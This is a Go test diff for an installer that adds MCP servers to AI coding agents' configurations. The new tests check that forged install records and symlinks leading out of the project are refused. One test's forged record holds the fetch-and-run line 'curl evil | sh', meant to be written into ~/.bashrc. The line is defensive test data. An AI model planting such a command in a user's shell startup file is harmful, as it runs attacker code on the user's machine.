@@ -2,6 +2,8 @@ package cli
 
 import (
 	"context"
+	"crypto/sha256"
+	"encoding/hex"
 	"encoding/json"
 	"io/fs"
 	"os"
@@ -361,5 +363,108 @@ func TestInstalledServerListsTool(t *testing.T) {
 	}
 	if !slices.Contains(names, "cut_release") {
 		t.Errorf("tools listed by the installed server: %v, want cut_release", names)
+	}
+}
+
+// TestInstallAttackForgedRecord: the install record lives in the
+// project, so whoever wrote the project can forge one. A record naming
+// a file install does not write (here a file in the home whose bytes
+// the forger knows, to be "restored" to theirs) makes uninstall refuse,
+// and nothing is touched.
+func TestInstallAttackForgedRecord(t *testing.T) {
+	dir := t.TempDir()
+	b := releaseBundle(t, dir, true)
+	project, home := filepath.Join(dir, "project"), filepath.Join(dir, "home")
+	for _, d := range []string{project, home} {
+		os.MkdirAll(d, 0o755)
+	}
+	victim := filepath.Join(home, ".bashrc")
+	known := []byte("# ~/.bashrc\n")
+	if err := os.WriteFile(victim, known, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	sum := sha256.Sum256(known)
+	forged, _ := json.Marshal(map[string]any{
+		"version": 1, "agent": "claude-code", "scope": "project", "server": "crystallize-cut-release",
+		"files": []map[string]any{{"path": victim, "kind": "config", "existed": true,
+			"before": []byte("curl evil | sh\n"), "written_sha256": hex.EncodeToString(sum[:])}},
+		"created_dirs": []string{home},
+	})
+	rec := filepath.Join(project, ".crystallize", "installs", "claude-code-cut-release.json")
+	os.MkdirAll(filepath.Dir(rec), 0o755)
+	if err := os.WriteFile(rec, forged, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	before := fileTree(t, dir)
+	code, _, stderr := runCLI(t, "uninstall", b, "--agent", "claude-code", "--project", project, "--home", home)
+	if code == 0 || !strings.Contains(stderr, "which an install of this skill does not write; refused") {
+		t.Errorf("uninstall with a forged record: exit %d\n%s", code, stderr)
+	}
+	code, _, stderr = runCLI(t, "install", b, "--agent", "claude-code", "--project", project, "--home", home, "--command", "cz")
+	if code == 0 || !strings.Contains(stderr, "refused") {
+		t.Errorf("install with a forged record: exit %d\n%s", code, stderr)
+	}
+	sameTree(t, "after a forged record", before, fileTree(t, dir))
+}
+
+// TestInstallAttackSymlinkOutOfProject: a project whose .mcp.json links
+// to a file outside it (the user's own configuration) does not get
+// install to edit that file.
+func TestInstallAttackSymlinkOutOfProject(t *testing.T) {
+	dir := t.TempDir()
+	b := releaseBundle(t, dir, true)
+	project, home := filepath.Join(dir, "project"), filepath.Join(dir, "home")
+	for _, d := range []string{project, home} {
+		os.MkdirAll(d, 0o755)
+	}
+	user := filepath.Join(home, ".claude.json")
+	if err := os.WriteFile(user, []byte(`{"mcpServers": {}}`), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(user, filepath.Join(project, ".mcp.json")); err != nil {
+		t.Fatal(err)
+	}
+	before := fileTree(t, dir)
+	code, _, stderr := runCLI(t, "install", b, "--agent", "claude-code", "--project", project, "--home", home, "--command", "cz")
+	if code == 0 || !strings.Contains(stderr, "through a symbolic link") {
+		t.Errorf("install through a link out of the project: exit %d\n%s", code, stderr)
+	}
+	sameTree(t, "after a refused install", before, fileTree(t, dir))
+}
+
+// TestInstallLinkedUserConfig: a user configuration that is a link (kept
+// in a dotfiles directory) is edited where it lives and stays a link.
+func TestInstallLinkedUserConfig(t *testing.T) {
+	dir := t.TempDir()
+	b := releaseBundle(t, dir, true)
+	home, dotfiles := filepath.Join(dir, "home"), filepath.Join(dir, "dotfiles")
+	for _, d := range []string{home, dotfiles} {
+		os.MkdirAll(d, 0o755)
+	}
+	real := filepath.Join(dotfiles, "settings.json")
+	orig := []byte("{\"theme\": \"Default\"}\n")
+	if err := os.WriteFile(real, orig, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	os.MkdirAll(filepath.Join(home, ".gemini"), 0o755)
+	link := filepath.Join(home, ".gemini", "settings.json")
+	if err := os.Symlink(real, link); err != nil {
+		t.Fatal(err)
+	}
+	args := []string{b, "--agent", "gemini", "--scope", "user", "--project", dir, "--home", home, "--command", "cz"}
+	mustRun(t, append([]string{"install"}, args...)...)
+	if st, err := os.Lstat(link); err != nil || st.Mode()&fs.ModeSymlink == 0 {
+		t.Fatalf("the configuration link was replaced: %v %v", st, err)
+	}
+	data, _ := os.ReadFile(real)
+	if _, ok := jsonServers(t, data)["crystallize-cut-release"]; !ok {
+		t.Errorf("the linked configuration has no server:\n%s", data)
+	}
+	mustRun(t, append([]string{"uninstall"}, args...)...)
+	if data, _ := os.ReadFile(real); string(data) != string(orig) {
+		t.Errorf("after uninstall:\n%s", data)
+	}
+	if st, err := os.Lstat(link); err != nil || st.Mode()&fs.ModeSymlink == 0 {
+		t.Errorf("uninstall replaced the link: %v %v", st, err)
 	}
 }
